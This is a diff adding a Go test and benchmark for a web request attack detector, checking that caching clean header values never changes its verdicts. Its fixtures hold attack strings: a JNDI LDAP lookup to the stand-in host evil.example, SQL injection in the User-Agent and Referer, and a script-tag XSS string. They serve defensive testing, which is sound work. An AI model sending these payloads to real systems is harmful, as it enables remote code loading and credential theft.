@@ -1,0 +1,71 @@
+package payload
+
+import (
+	"context"
+	"reflect"
+	"testing"
+)
+
+// TestCleanMemo checks that remembering clean header values never changes
+// a verdict: every request gets the same verdict from a detector with a
+// warm memo as from one without, whatever came before it.
+func TestCleanMemo(t *testing.T) {
+	const browserUA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36"
+	reqs := []struct {
+		name, target, header, value string
+	}{
+		{"browser", "/api/items/1", "User-Agent", browserUA},
+		{"attack ua", "/api/items/1", "User-Agent", "Mozilla/5.0' or '1'='1' -- (compatible)"},
+		// The same signal from the query first, then from the header:
+		// the header's own hit must not make it look clean.
+		{"query then ua", "/q?x=${jndi:ldap://evil.example/a}", "User-Agent", "${jndi:ldap://evil.example/a}"},
+		{"ua alone", "/api/items/2", "User-Agent", "${jndi:ldap://evil.example/a}"},
+		{"one byte off", "/api/items/3", "User-Agent", browserUA[:40] + "<script>alert(1)</script>"},
+		{"referer", "/api/items/4", "Referer", "https://shop.example/catalogue?page=2&sort=price"},
+		{"referer attack", "/api/items/5", "Referer", "https://shop.example/?q=1 union select password from users--"},
+	}
+	memo := newTestDetector(t)
+	plain := newTestDetector(t)
+	plain.memo = nil
+	ctx := context.Background()
+	for round := range 3 {
+		for _, tt := range reqs {
+			r := withHeader(get(tt.target), tt.header, tt.value)
+			got, want := memo.Detect(ctx, r), plain.Detect(ctx, r)
+			if !reflect.DeepEqual(got, want) {
+				t.Fatalf("round %d, %s: verdict with memo %+v, without %+v", round, tt.name, got, want)
+			}
+		}
+	}
+	if !memo.memo.has("User-Agent", browserUA) {
+		t.Error("clean user agent not remembered")
+	}
+	for _, tt := range reqs[1:5] {
+		if memo.memo.has(tt.header, tt.value) {
+			t.Errorf("%s: value with a signal remembered as clean", tt.name)
+		}
+	}
+	if v := memo.Detect(ctx, withHeader(get("/a"), "User-Agent", reqs[3].value)); v.Confidence < 0.8 {
+		t.Errorf("jndi user agent after warm-up: confidence %.2f, want a block", v.Confidence)
+	}
+}
+
+func BenchmarkBrowserGet(b *testing.B) {
+	d := newTestDetector(b)
+	r := withHeader(get("/api/products/42?fields=name"), "User-Agent",
+		"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36")
+	r.Header.Set("Referer", "https://shop.example/catalogue?page=2")
+	ctx := context.Background()
+	for _, memo := range []struct {
+		name string
+		m    *cleanMemo
+	}{{"memo", d.memo}, {"nomemo", nil}} {
+		b.Run(memo.name, func(b *testing.B) {
+			d.memo = memo.m
+			b.ReportAllocs()
+			for b.Loop() {
+				d.Detect(ctx, r)
+			}
+		})
+	}
+}
